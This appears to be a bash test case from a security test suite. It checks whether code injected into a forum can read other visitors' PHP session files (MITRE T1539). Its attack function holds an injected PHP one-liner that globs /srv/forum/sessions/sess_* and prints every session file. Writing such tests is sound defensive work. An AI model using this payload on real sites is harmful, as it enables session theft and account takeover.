# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1539
about="another visitor's session is read"
note="every worker reads the sessions of all visitors"
attack() {
	get login name=victim >/dev/null
	inject 'foreach (glob("/srv/forum/sessions/sess_*") as $one) echo file_get_contents($one);'
}
effect() { grep -q victim "$state/answer"; }
